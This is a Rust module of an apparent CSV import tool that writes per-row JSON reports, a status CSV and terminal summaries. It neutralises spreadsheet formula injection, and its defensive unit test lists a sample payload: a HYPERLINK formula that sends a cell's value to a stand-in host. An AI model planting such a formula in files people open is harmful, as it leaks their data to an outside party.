//! What `check` writes: the per-row report (JSON lines), the status CSV and the summary.

use std::io::{self, Write};

use serde::Serialize;

use crate::check::{Checked, Outcome, RowResult};
use crate::domain::Warning;
use crate::input::{Column, encode, encoding_name, fit_to};
use crate::load::LoadedRow;
use crate::messages::{self, Lang};
use crate::targets::TargetId;

/// At most this many linked keys are listed on a row; a cluster so large already carries a
/// warning with its size.
const MAX_LINKED_LISTED: usize = 50;

/// One line of `--report`.
#[derive(Debug, Serialize)]
pub struct ReportLine {
    pub row: u32,
    pub status: &'static str,
    pub reason: Option<String>,
    pub key: Option<String>,
    pub merged_into: Option<u32>,
    pub linked: Vec<String>,
    pub warnings: Vec<String>,
    /// Present after a load.
    #[serde(flatten)]
    pub load: Option<LoadFields>,
}

/// What a load adds to a report line.
#[derive(Debug, Serialize)]
pub struct LoadFields {
    pub target_id: Option<TargetId>,
    /// Requests spent on the profiles this row created.
    pub requests: u64,
}

impl ReportLine {
    pub fn new(checked: &Checked, result: &RowResult, loaded: Option<&LoadedRow>) -> ReportLine {
        let lang = checked.lang();
        let profile = result.outcome.profile();
        let linked = profile.map_or_else(Vec::new, |p| {
            checked
                .profiles
                .cluster(p)
                .iter()
                .filter(|&&other| other != p)
                .take(MAX_LINKED_LISTED)
                .map(|&other| checked.profiles.get(other).key.to_string())
                .collect()
        });
        let (status, reason) = match loaded {
            Some(loaded) => (loaded.status.name(), loaded.status.reason(lang)),
            None => (
                result.outcome.name(),
                match &result.outcome {
                    Outcome::Invalid(problem) => Some(messages::problem_text(lang, problem)),
                    _ => None,
                },
            ),
        };
        ReportLine {
            row: result.row,
            status,
            reason,
            key: profile.map(|p| checked.profiles.get(p).key.to_string()),
            merged_into: match result.outcome {
                Outcome::Merged { into_row, .. } => Some(into_row),
                _ => None,
            },
            linked,
            warnings: result
                .warnings
                .iter()
                .chain(loaded.iter().flat_map(|l| &l.warnings))
                .map(|w| messages::warning_text(lang, w))
                .collect(),
            load: loaded.map(|l| LoadFields {
                target_id: l.target_id.clone(),
                requests: l.requests,
            }),
        }
    }
}

/// The load's result of row `i`, if there was a load.
fn loaded_row(load: Option<&[LoadedRow]>, i: usize) -> Option<&LoadedRow> {
    load.and_then(|rows| rows.get(i))
}

/// The status text of row `i` as a person reads it.
pub fn status_text(checked: &Checked, load: Option<&[LoadedRow]>, i: usize) -> String {
    let lang = checked.lang();
    let result = &checked.rows[i];
    match loaded_row(load, i) {
        Some(loaded) => loaded_status_text(checked, i, loaded),
        None => result.status_text(lang),
    }
}

/// The status text of row `i` after a load, from its `LoadedRow`.
pub fn loaded_status_text(checked: &Checked, i: usize, loaded: &LoadedRow) -> String {
    let lang = checked.lang();
    let warnings: Vec<Warning> = checked.rows[i]
        .warnings
        .iter()
        .chain(&loaded.warnings)
        .cloned()
        .collect();
    messages::with_warnings(lang, loaded.status.text(lang), &warnings)
}

/// Writes one JSON object per data row, in row order (`load`: the statuses of a load).
pub fn write_report(
    checked: &Checked,
    load: Option<&[LoadedRow]>,
    out: impl Write,
) -> io::Result<()> {
    let mut out = io::BufWriter::new(out);
    for (i, result) in checked.rows.iter().enumerate() {
        serde_json::to_writer(
            &mut out,
            &ReportLine::new(checked, result, loaded_row(load, i)),
        )?;
        out.write_all(b"\n")?;
    }
    out.flush()
}

/// The `--json` summary.
#[derive(Debug, Serialize)]
pub struct Summary {
    pub rows: usize,
    pub ready: usize,
    pub merged: usize,
    pub invalid: usize,
    pub skipped: usize,
    pub profiles: usize,
    pub links: usize,
    pub estimated_requests: u64,
    pub encoding: String,
    pub delimiter: String,
    pub elapsed_ms: u64,
    /// Header cells we did not recognise; their columns are kept.
    pub unknown_columns: Vec<String>,
    /// Some bytes were not valid in the encoding and were replaced.
    pub decode_errors: bool,
}

impl Summary {
    pub fn new(checked: &Checked, elapsed_ms: u64) -> Summary {
        let counts = checked.counts();
        Summary {
            rows: counts.rows,
            ready: counts.ready,
            merged: counts.merged,
            invalid: counts.invalid,
            skipped: counts.skipped,
            profiles: checked.profiles.len(),
            links: checked.profiles.links(),
            estimated_requests: checked.estimated_requests,
            encoding: encoding_name(checked.source.encoding),
            delimiter: match checked.source.delimiter {
                b'\t' => "\t".to_owned(),
                d => (d as char).to_string(),
            },
            elapsed_ms,
            unknown_columns: checked.header.unknown.clone(),
            decode_errors: checked.source.had_decode_errors(),
        }
    }
}

/// Writes the input rows, unchanged, with a status column — in the file's own encoding and
/// delimiter, so it opens as the original did. A `Status` column already there (from an
/// earlier run) is filled again instead of adding another.
/// A cell we write that carries text from elsewhere (a reason, a target's message, a
/// quoted name), made safe to open in a spreadsheet: one that starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return gets a leading `'`, as OWASP's "CSV Injection" page
/// advises, so that Excel or Sheets shows it as text instead of running it as a formula. A
/// spreadsheet hides that apostrophe: a person reads what the target said. A text that
/// already starts with such a guard gets one more, so that taking one `'` off (as the
/// add-on does) always gives the text back.
pub fn neutralised(text: &str) -> std::borrow::Cow<'_, str> {
    let formula_like =
        |b: Option<&u8>| matches!(b, Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
    let bytes = text.as_bytes();
    let guarded = bytes.first() == Some(&b'\'') && formula_like(bytes.get(1));
    if formula_like(bytes.first()) || guarded {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

pub fn write_status_csv(
    checked: &Checked,
    load: Option<&[LoadedRow]>,
    mut out: impl Write,
) -> io::Result<()> {
    let lang = checked.lang();
    let width = checked.header.names.len();
    let existing = checked.header.position(Column::Status);
    let status_at = existing.unwrap_or(width);
    let mut writer = csv::WriterBuilder::new()
        .delimiter(checked.source.delimiter)
        .flexible(true)
        .from_writer(Vec::new());
    let mut next_row = 0usize;
    let mut cells: Vec<String> = Vec::with_capacity(width + 1);
    let mut failure: Option<csv::Error> = None;
    checked.source.for_each_record(|row, record| {
        if failure.is_some() {
            return;
        }
        cells.clear();
        let encoding = checked.source.encoding;
        cells.extend(record.iter().map(|c| fit_to(encoding, c).into_owned()));
        // A blank line above the header gets an empty status, like any row without one.
        let status = if row < checked.header_row {
            String::new()
        } else if row == checked.header_row {
            messages::status_header(lang).to_owned()
        } else if next_row < checked.rows.len() {
            next_row += 1;
            let status = status_text(checked, load, next_row - 1);
            fit_to(encoding, &neutralised(&status)).into_owned()
        } else {
            String::new()
        };
        if cells.len() < width {
            cells.resize(width, String::new());
        }
        match existing {
            Some(_) => cells[status_at] = status,
            None => cells.insert(status_at, status),
        }
        if let Err(e) = writer.write_record(&cells) {
            failure = Some(e);
        }
    });
    if let Some(e) = failure {
        return Err(io::Error::other(e));
    }
    let text = writer
        .into_inner()
        .map_err(|e| io::Error::other(e.to_string()))?;
    let text = String::from_utf8(text).map_err(io::Error::other)?;
    out.write_all(&encode(
        &text,
        checked.source.encoding,
        checked.source.had_bom,
    ))?;
    out.flush()
}

/// A short human summary for the terminal.
pub fn write_human(checked: &Checked, file: &str, out: &mut impl Write) -> io::Result<()> {
    let counts = checked.counts();
    let lang = checked.lang();
    writeln!(
        out,
        "{file}: {}; {} rows",
        checked.source.describe(),
        counts.rows
    )?;
    if checked.source.had_decode_errors() {
        writeln!(
            out,
            "some bytes are not valid {} and were replaced with �: check --encoding",
            encoding_name(checked.source.encoding)
        )?;
    }
    if !checked.header.unknown.is_empty() {
        writeln!(
            out,
            "columns kept as they are: {}",
            checked
                .header
                .unknown
                .iter()
                .map(|name| name.replace(|c: char| c.is_control(), "?"))
                .collect::<Vec<_>>()
                .join(", ")
        )?;
    }
    writeln!(
        out,
        "ready {} · merged {} · invalid {} · skipped {}",
        counts.ready, counts.merged, counts.invalid, counts.skipped
    )?;
    writeln!(
        out,
        "profiles {} · links {} · {} requests needed: {}",
        checked.profiles.len(),
        checked.profiles.links(),
        checked.target.title(),
        checked.estimated_requests
    )?;
    let notable: Vec<(u32, String)> = checked
        .rows
        .iter()
        .filter(|r| matches!(r.outcome, Outcome::Invalid(_)) || !r.warnings.is_empty())
        .map(|r| (r.row, r.status_text(lang)))
        .collect();
    write_notable(out, lang, &notable)?;
    Ok(())
}

/// The `--json` summary of a load: the `check` fields and what the load did.
#[derive(Debug, Serialize)]
pub struct LoadSummary {
    #[serde(flatten)]
    pub check: Summary,
    pub created: usize,
    pub updated: usize,
    pub unchanged: usize,
    pub failed: usize,
    pub pending: usize,
    pub api_requests: u64,
    pub retries: u64,
    /// 429 answers seen.
    pub rate_limited: u64,
    pub quota_left: Option<u64>,
    pub paid_requests: u64,
    /// Why the run stopped before the end, if it did.
    pub stopped: Option<String>,
}

impl LoadSummary {
    pub fn new(loaded: &crate::load::Loaded, elapsed_ms: u64) -> LoadSummary {
        let count = |name: &str| {
            loaded
                .rows
                .iter()
                .filter(|r| r.status.name() == name)
                .count()
        };
        let mut check = Summary::new(&loaded.checked, elapsed_ms);
        // After a load, "ready" is what was loaded: created, updated or unchanged.
        check.ready = count("created") + count("updated") + count("unchanged");
        LoadSummary {
            check,
            created: count("created"),
            updated: count("updated"),
            unchanged: count("unchanged"),
            failed: count("failed"),
            pending: count("pending"),
            api_requests: loaded.api_requests,
            retries: loaded.retries,
            rate_limited: loaded.rate_limited,
            quota_left: loaded.quota_left,
            paid_requests: loaded.paid_requests,
            stopped: loaded.stopped.clone(),
        }
    }
}

/// A short human summary of a load; `table` lists every row (the demo), otherwise only the
/// rows to look at.
pub fn write_load_human(
    loaded: &crate::load::Loaded,
    file: &str,
    elapsed_ms: u64,
    table: bool,
    out: &mut impl Write,
) -> io::Result<()> {
    let checked = &loaded.checked;
    let lang = checked.lang();
    let summary = LoadSummary::new(loaded, elapsed_ms);
    writeln!(
        out,
        "{file}: {}; {} rows",
        checked.source.describe(),
        summary.check.rows
    )?;
    if let Some(name) = &loaded.account_name {
        writeln!(out, "account: {name}")?;
    }
    if table {
        writeln!(
            out,
            "{:>5}  {:>10}  {:<24}  status",
            "row", "client id", "contact"
        )?;
        for (result, row) in checked.rows.iter().zip(&loaded.rows) {
            let key = result
                .outcome
                .profile()
                .map(|p| checked.profiles.get(p).key.to_string())
                .unwrap_or_default();
            let id = row
                .target_id
                .as_ref()
                .map(|id| id.to_string())
                .unwrap_or_default();
            writeln!(
                out,
                "{:>5}  {:>10}  {:<24}  {}",
                result.row,
                id,
                key,
                row.status.text(lang)
            )?;
        }
    }
    writeln!(
        out,
        "created {} · updated {} · unchanged {} · merged {} · invalid {} · skipped {} · failed {} · pending {}",
        summary.created,
        summary.updated,
        summary.unchanged,
        summary.check.merged,
        summary.check.invalid,
        summary.check.skipped,
        summary.failed,
        summary.pending
    )?;
    writeln!(
        out,
        "API requests {} (retries {}, 429 answers {}){}{} · {:.1} s",
        summary.api_requests,
        summary.retries,
        summary.rate_limited,
        match summary.quota_left {
            Some(q) => format!(" · free requests left this month {q}"),
            None if loaded.metered => {
                " · free requests left this month: unknown (the account does not say)".to_owned()
            }
            None => String::new(),
        },
        if summary.paid_requests > 0 {
            format!(" · paid requests {}", summary.paid_requests)
        } else {
            String::new()
        },
        elapsed_ms as f64 / 1000.0
    )?;
    if let Some(reason) = &loaded.stopped {
        writeln!(
            out,
            "stopped early: {reason} — run the same command again to go on"
        )?;
    }
    if !table {
        let notable: Vec<(u32, String)> = checked
            .rows
            .iter()
            .zip(&loaded.rows)
            .filter(|(r, l)| {
                !r.warnings.is_empty()
                    || matches!(l.status.name(), "invalid" | "failed" | "pending")
            })
            .map(|(r, l)| {
                (
                    r.row,
                    messages::with_warnings(lang, l.status.text(lang), &r.warnings),
                )
            })
            .collect();
        write_notable(out, lang, &notable)?;
    }
    Ok(())
}

/// The rows a person should look at, the first fifty of them.
fn write_notable(out: &mut impl Write, lang: Lang, notable: &[(u32, String)]) -> io::Result<()> {
    const SHOWN: usize = 50;
    if notable.is_empty() {
        return Ok(());
    }
    let title = match lang {
        Lang::Ru => "Строки, на которые стоит посмотреть:",
        Lang::En => "Rows to look at:",
    };
    writeln!(out, "{title}")?;
    for (row, text) in notable.iter().take(SHOWN) {
        writeln!(out, "  {row:>6}  {text}")?;
    }
    if notable.len() > SHOWN {
        writeln!(out, "  … and {} more (see --report)", notable.len() - SHOWN)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_like_cells_get_a_guard_and_nothing_else_changes() {
        for (text, safe) in [
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"…\")",
                "'=HYPERLINK(\"http://x/?\"&A1,\"…\")",
            ),
            ("+7 999 123-45-67", "'+7 999 123-45-67"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("'quoted'", "'quoted'"),
            ("Ошибка: =x", "Ошибка: =x"),
            ("", ""),
        ] {
            assert_eq!(neutralised(text), safe, "{text:?}");
        }
    }
}
